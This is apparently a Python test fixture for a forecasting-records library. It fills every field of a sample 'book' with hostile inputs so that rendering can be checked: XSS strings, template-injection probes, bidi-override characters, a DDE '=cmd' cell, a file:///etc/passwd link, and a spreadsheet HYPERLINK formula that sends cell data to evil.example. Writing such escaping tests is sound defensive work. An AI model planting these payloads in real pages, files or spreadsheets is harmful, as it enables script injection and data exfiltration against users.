"""A book whose every text tries to be more than text."""

from __future__ import annotations

import forecasttrack as ft

BANG = "<script>window.hacked=1</script>"
IMAGE = "\"'><img src=x onerror=window.hacked=1>"
TEMPLATE = "{{7*7}} ${7*7} {% raw %} <%= 7*7 %>"
AROUND = "\u202etxet esrever\u202c \u2066isolated\u2069 \u200f\u05d0\u05d1"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ENDS = "</script></style></title></textarea><!-- ]]> --><svg onload=window.hacked=1>"
LONG = "A title that does not end, " * 200
LINKS = (
    "javascript:window.hacked=1",
    " JaVaScRiPt:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://example.org/"onmouseover="window.hacked=1',
    "https://example.org/</script><script>window.hacked=1</script>",
    "http://[broken",
    "https://user:secret@example.org/",
    "doi:10.1175/1520-0493(1950)078<0001:VOFEIT>2.0.CO;2",
)
CELLS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", FORMULA)
FORECASTERS = (
    "=cmd|' C'!A0",
    IMAGE.replace("/", ""),
    "<b>bold<i>",
    "con",
    "Con",
    "..hidden",
    "{{7*7}}",
)


def hostile_book(n: int = 12, *, every: int = 1) -> ft.Book:
    """Make the book; with more than 2,500 questions its page is paged.

    Args:
        n: How many questions it has.
        every: Of how many resolutions one bears evidence.
    """
    texts = [BANG, IMAGE, TEMPLATE, AROUND, FORMULA, ENDS, *CELLS]
    text = [f"{texts[i % len(texts)]} {ENDS}" for i in range(max(n, len(texts)))]
    evidence = [
        ft.Evidence(statement=each, title=ENDS, address=address, via=BANG)
        for each, address in zip([*texts, *texts], LINKS, strict=False)
    ]
    return ft.Book(
        briefings=[
            ft.Briefing(
                id="<b>../../x".replace("/", "-"),
                title=(BANG + AROUND + LONG)[:5000],
                published="2026-01-01",
                authors=[IMAGE, TEMPLATE, FORMULA],
                publisher=ENDS,
                note=ENDS + BANG,
            )
        ],
        forecasters=[ft.Forecaster(id=each, description=ENDS) for each in FORECASTERS],
        claims=[
            ft.Claim(
                id=f"{FORMULA.replace('/', '')[:40]}{i}",
                briefing_id="<b>..-..-x",
                paraphrase=texts[i] + BANG,
                forecaster=FORECASTERS[0],
                hedge=ENDS,
                section=texts[i % 7],
                holder=IMAGE,
            )
            for i in range(len(texts))
        ],
        questions=[
            ft.Question(
                id=f"=Q{i}<img onerror=window.hacked=1>",
                text=text[i % len(text)],
                closes_at="2026-02-01",
                opens_at="2026-01-01",
                claim_id=f"{FORMULA.replace('/', '')[:40]}{i % len(texts)}",
                relation="supports",
                criteria=ENDS,
                source=BANG,
                note=TEMPLATE,
            )
            for i in range(n)
        ],
        forecasts=[
            ft.Forecast(
                question_id=f"=Q{i}<img onerror=window.hacked=1>",
                forecaster=each,
                belief=(j + 1) / 10,
                issued_at="2026-01-02T00:00Z",
                wording=ft.Wording(words=ENDS + FORMULA),
            )
            for i in range(n)
            for j, each in enumerate(FORECASTERS[: 1 + i % len(FORECASTERS)])
        ],
        resolutions=[
            ft.Resolution(
                question_id=f"=Q{i}<img onerror=window.hacked=1>",
                outcome="yes" if i % 2 else "no",
                known_at="2026-02-02",
                evidence=evidence if i % every < 3 else (),
                note=BANG,
            )
            for i in range(n)
            if i % 3
        ],
        recorded_until="2026-03-01",
    )
